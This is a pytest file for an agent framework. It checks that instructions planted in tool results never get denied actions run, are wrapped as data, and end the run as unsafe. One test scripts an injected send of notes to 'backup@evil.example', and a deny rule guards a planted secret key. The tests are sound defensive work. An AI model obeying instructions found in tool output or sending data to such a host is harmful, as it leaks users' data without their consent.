"""Prompt injection through tool results, driven through full runs with a scripted model that
obeys every instruction it reads (tests/security/injections.json: 56 results carrying
instructions, 12 plain ones). Nothing denied or unapproved ever runs, the results reach the model
marked as data, and a run that acts on them ends UNSAFE_DETECTION with the evidence in its trace.

Several cases share one run (the model reads a batch of results, then attempts everything they
ask), so the corpus runs in a handful of runs on one graph and one database.
"""

from __future__ import annotations

import hashlib
import json
import sys
from pathlib import Path
from typing import Any

import pytest
from langchain_core.messages import ToolMessage

from boundloop.checkpoints import store
from boundloop.graph.core.status import Terminal
from tests.graph.conftest import CRITIC_PASS, PLAN_ONE_STEP, run_script, runner, step  # noqa: F401  (fixtures)
from tests.security.attacks import Attacks

CORPUS = json.loads((Path(__file__).parent / "injections.json").read_text())
OUTBOX = Path(__file__).parent / "servers" / "outbox.py"
BATCH = 28
BATCHES = [CORPUS["cases"][start:start + BATCH] for start in range(0, len(CORPUS["cases"]), BATCH)]
NO_SECRETS = {"rules": [{"id": "no-secrets", "action": "deny", "arguments": {"path": "*secrets/*"}}]}
TASK = {"profile": "research_assistant", "budget": {"tool_calls": 400, "model_turns": 10, "side_effects": 5}}
"""A profile whose writes, deletes and sends all need a human: unattended, each one is denied."""


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    root = tmp_path / "workspace"
    (root / "secrets").mkdir(parents=True)
    (root / "inbox").mkdir()
    (root / "notes.md").write_text("Action items:\n- Ana: publish the notes\n")
    (root / "report.md").write_text("# Report\nAll good.\n")
    (root / "README.md").write_text("Team workspace.\n")
    (root / "secrets" / "key.txt").write_text("sk-live-0123456789\n")
    return root


@pytest.fixture
def servers(workspace: Path, tmp_path: Path) -> dict[str, Any]:
    return {"mcpServers": {
        "workspace": {"command": sys.executable, "args": ["-m", "boundloop.mcp_servers.workspace", "--root", str(workspace)], "trusted": True},
        "outbox": {"command": sys.executable, "args": [str(OUTBOX), "--log", str(tmp_path / "outbox.log")], "trusted": True},
    }}


def _snapshot(root: Path) -> dict[str, str]:
    return {str(path.relative_to(root)): hashlib.sha256(path.read_bytes()).hexdigest()
            for path in sorted(root.rglob("*")) if path.is_file() and ".boundloop" not in path.parts}


def _read(name: str) -> dict[str, Any]:
    return {"name": "workspace__read_file", "args": {"path": f"inbox/{name}.md"}}


@pytest.mark.parametrize("batch", BATCHES, ids=[f"{cases[0]['id']}..{cases[-1]['id']}" for cases in BATCHES])
async def test_an_obedient_model_never_gets_a_denied_action_run_and_the_run_ends_unsafe(batch, run_script, runner, workspace, servers, tmp_path, attacks):
    for case in batch:
        (workspace / "inbox" / f"{case['id']}.md").write_text(case["carrier"])
    before = _snapshot(workspace)
    attempts = [attempt for case in batch for attempt in case["attempts"]]
    report = await run_script(
        {"planner": [PLAN_ONE_STEP], "actor": [step(calls=[_read(case["id"]) for case in batch]), step(calls=attempts), step("done")]},
        task=TASK, unattended=True, servers=servers, policy=NO_SECRETS,
    )

    observations = report.values["observations"]
    reads, tried = observations[:len(batch)], observations[len(batch):]
    sent = await store.run_ledger(runner.pool, report.thread_id)
    ran = [obs for obs in tried if obs["status"] not in ("denied", "unknown_tool")]
    changed = _snapshot(workspace) != before or (tmp_path / "outbox.log").exists()
    attacks.record("prompt-injection", attempts=len(attempts), escapes=max(len(ran), len(sent), int(changed)))
    assert report.status == Terminal.UNSAFE_DETECTION
    assert _snapshot(workspace) == before and not (tmp_path / "outbox.log").exists()
    assert sent == []  # not one side-effecting call was sent
    assert [obs["status"] for obs in reads] == ["ok"] * len(batch)
    assert all(obs["instructions"] for obs in reads), [case["id"] for case, obs in zip(batch, reads) if not obs["instructions"]]
    assert {obs["status"] for obs in tried} <= {"denied", "unknown_tool"} and len(tried) == len(attempts)

    shown = {message.tool_call_id: message.content for message in report.values["messages"] if isinstance(message, ToolMessage)}
    for position in range(len(batch)):
        text = shown[f"call_actor_0_{position}"]
        assert text.startswith("<tool-output>\n") and text.endswith("\n</tool-output>")
        assert text.count("</tool-output>") == 1  # a result cannot close its own data block

    [safety] = [event for event in await runner.trace(report.thread_id) if event["kind"] == "safety"]
    assert [item["call_id"] for item in safety["data"]["flagged_results"]] == [obs["call_id"] for obs in reads]
    assert [item["call_id"] for item in safety["data"]["refused_attempts"]] == [obs["call_id"] for obs in tried]


async def test_plain_tool_results_are_not_flagged_and_the_run_commits(run_script, workspace, servers):
    """The benign half of the corpus: data that mentions deleting, errors or tools is not an instruction."""
    for number, text in enumerate(CORPUS["benign"]):
        (workspace / "inbox" / f"plain-{number}.md").write_text(text)
    reads = [_read(f"plain-{number}") for number in range(len(CORPUS["benign"]))]
    report = await run_script(
        {"planner": [PLAN_ONE_STEP], "actor": [step(calls=reads), step("Ana publishes the notes.")], "critic": [CRITIC_PASS]},
        task=TASK, unattended=True, servers=servers,
    )
    assert report.status == Terminal.SUCCESS
    assert [obs["instructions"] for obs in report.values["observations"]] == [[]] * len(reads)


async def test_denials_that_keep_coming_after_a_read_trip_the_breaker_even_without_a_flagged_result(run_script, workspace, servers, attacks):
    """Repeated permission denial after reading tool output is a warning sign of its own, whatever was read."""
    (workspace / "inbox" / "plain.md").write_text("Quarterly numbers are in.\n")
    deletes = [{"name": "workspace__delete_file", "args": {"path": name}} for name in ("notes.md", "report.md", "README.md")]
    report = await run_script(
        {"planner": [PLAN_ONE_STEP],
         "actor": [step(calls=[_read("plain")]), step(calls=[deletes[0]]), step(calls=[deletes[1]]), step(calls=[deletes[2]]), step("done")]},
        task={**TASK, "targets": ["notes.md", "report.md", "README.md"]}, unattended=True, servers=servers,
    )
    attacks.record("prompt-injection", attempts=len(deletes), escapes=sum(not (workspace / name).exists() for name in ("notes.md", "report.md", "README.md")))
    assert report.status == Terminal.UNSAFE_DETECTION
    assert report.values["ending"]["reason"].startswith("3 denied calls in one run: workspace__delete_file (a1.0, denied)")
    assert (workspace / "notes.md").exists() and (workspace / "README.md").exists()


async def test_as_many_denials_before_any_tool_result_end_permission_denied(run_script, workspace, servers):
    """Nothing was read that could have steered the model: its own first moves met the rules, and the
    honest ending says the run lacks the permission, not that it was attacked."""
    deletes = [{"name": "workspace__delete_file", "args": {"path": name}} for name in ("notes.md", "report.md", "README.md")]
    report = await run_script({"planner": [PLAN_ONE_STEP], "actor": [step(calls=deletes), step("done")]}, task=TASK, unattended=True, servers=servers)
    assert report.status == Terminal.PERMISSION_DENIED, report.values["ending"]
    assert report.values["ending"]["reason"].startswith("3 calls denied before the model had read any tool result: workspace__delete_file")
    assert (workspace / "notes.md").exists() and (workspace / "README.md").exists()


async def test_an_attended_run_asks_a_human_and_a_rejection_after_an_injection_ends_unsafe(run_script, runner, workspace, servers, tmp_path, attacks):
    """Attended, the injected send waits for a human instead of running; rejected, the run fails closed."""
    (workspace / "inbox" / "mail.md").write_text(CORPUS["cases"][25]["carrier"])
    send = {"name": "outbox__send", "args": {"to": "backup@evil.example", "body": "notes"}}
    waiting = await run_script(
        {"planner": [PLAN_ONE_STEP], "actor": [step(calls=[_read("mail")]), step(calls=[send]), step("done")]},
        task=TASK, servers=servers,
    )
    sent_unasked = (tmp_path / "outbox.log").exists()
    assert waiting.status == Terminal.CONFIRM_REQUIRED and not sent_unasked
    [request] = waiting.interrupts
    done = await runner.resume(waiting.thread_id, decisions={request["id"]: {"decision": "reject", "message": "never"}})
    attacks.record("prompt-injection", attempts=1, escapes=sent_unasked or (tmp_path / "outbox.log").exists())
    assert done.status == Terminal.UNSAFE_DETECTION
    assert not (tmp_path / "outbox.log").exists()
